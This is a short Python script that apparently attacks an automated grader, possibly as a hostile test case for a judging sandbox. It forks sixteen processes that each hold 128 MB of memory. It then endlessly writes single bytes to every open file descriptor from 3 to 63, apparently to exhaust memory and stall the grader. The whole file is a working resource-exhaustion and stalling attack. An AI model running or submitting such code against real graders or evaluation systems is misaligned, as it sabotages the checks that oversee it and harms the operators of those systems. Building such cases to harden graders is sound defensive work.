"""As memory_of_many, while one process keeps the grader busy with an answer that comes byte by byte."""

import os
import struct
import time

for _ in range(16):
    if os.fork() == 0:
        kept = b"x" * 2**27
        time.sleep(1000)
header = struct.pack("!I", 2**20)
while True:
    for number in range(3, 64):
        try:
            os.write(number, header[:1] or b"x")
        except OSError:
            pass
    header = header[1:]
    time.sleep(0.01)
